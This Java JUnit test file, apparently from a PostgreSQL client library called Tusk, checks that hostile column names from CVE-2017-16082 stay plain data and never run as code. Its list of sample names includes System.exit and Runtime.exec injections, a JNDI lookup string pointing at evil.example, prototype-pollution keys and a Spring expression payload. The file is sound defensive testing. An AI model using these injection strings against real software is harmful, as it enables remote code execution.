package dev.tusk.it.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tusk.Connection;
import dev.tusk.Row;
import dev.tusk.RowFactories;
import dev.tusk.errors.ProgrammingError;
import dev.tusk.testing.TuskTest;
import dev.tusk.testing.fake.BackendMessages;
import dev.tusk.testing.fake.FakeServer;
import dev.tusk.testing.fake.Script;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.Timeout.ThreadMode;

/**
 * node-postgres CVE-2017-16082: column names from RowDescription were spliced into generated code,
 * so a column alias ran as JavaScript in the client. In Tusk a column name is only ever data: a key
 * to look up, a map key, or a name that a record mapping fails to match, with a typed error.
 */
@TuskTest
@Timeout(value = 20, threadMode = ThreadMode.SEPARATE_THREAD)
class ColumnNameCveTest {

  /** Each under PostgreSQL's 63-byte identifier limit, so the server sends them whole. */
  private static final List<String> HOSTILE_NAMES =
      List.of(
          "'); process.exit(1); //",
          "\"; System.exit(1); \"",
          "\\\"; Runtime.getRuntime().exec(\"id\");",
          "${jndi:ldap://evil.example/a}",
          "__proto__",
          "constructor",
          "class",
          "getClass",
          "#{T(java.lang.Runtime).getRuntime()}",
          "",
          "a\nb\u0000c".replace("\u0000", ""));

  @Test
  @DisplayName("CVE-2017-16082: hostile column names from the real server are only data")
  void cve_2017_16082_hostileColumnNamesAreData(Connection conn) {
    List<String> names = HOSTILE_NAMES.stream().filter(name -> !name.isEmpty()).toList();
    String sql =
        "SELECT "
            + IntStream.range(0, names.size())
                .mapToObj(i -> i + " AS " + quote(names.get(i)))
                .collect(Collectors.joining(", "));

    Row row = conn.execute(sql).fetchOne();
    assertEquals(names, row.columnNames());
    for (int i = 0; i < names.size(); i++) {
      assertEquals(i, row.getInt(names.get(i)), names.get(i));
    }

    Map<String, Object> map = conn.cursor(RowFactories.map()).execute(sql).fetchOne();
    assertEquals(names, new ArrayList<>(map.keySet()));
    assertEquals(3, map.get("${jndi:ldap://evil.example/a}"));
  }

  /** A record mapping does not match hostile names to anything: it fails naming both lists. */
  @Test
  @DisplayName("CVE-2017-16082: a record mapping refuses hostile column names with a typed error")
  void cve_2017_16082_recordMappingFailsTyped(Connection conn) {
    record Plain(int id) {}
    for (String name : List.of("getClass", "class", "constructor", "id\"); System.exit(1); //")) {
      String sql = "SELECT 1 AS id, 2 AS " + quote(name);
      ProgrammingError error =
          assertThrows(
              ProgrammingError.class,
              () -> conn.cursor(RowFactories.record(Plain.class)).execute(sql).fetchOne());
      assertTrue(error.getMessage().contains(name), error.getMessage());
    }
  }

  /**
   * A fake server may send what no real server does: an empty name, a duplicate, control
   * characters. They are still data.
   */
  @Test
  @DisplayName("CVE-2017-16082: names only a hostile server sends are only data")
  void cve_2017_16082_namesNoRealServerSends() {
    List<String> names = List.of("", "x", "x", "\u0001\u001b[31mred", "\uD83D\uDE00 emoji");
    Script script =
        Script.create()
            .handshake()
            .answerExtendedQuery(
                BackendMessages.rowDescription(names.toArray(String[]::new)),
                BackendMessages.dataRow("0", "1", "2", "3", "4"),
                BackendMessages.commandComplete("SELECT 1"));
    try (FakeServer server = FakeServer.start(script);
        Connection conn = dev.tusk.Tusk.connect(server.conninfo())) {
      Row row = conn.execute("SELECT whatever").fetchOne();
      assertEquals(names, row.columnNames());
      assertEquals("3", row.getString("\u0001\u001b[31mred"));
      assertEquals("0", row.getString(""));
      assertEquals("1", row.getString("x"), "the first of two equal names");
      server.verify();
    }
  }

  private static String quote(String identifier) {
    return "\"" + identifier.replace("\"", "\"\"") + "\"";
  }
}
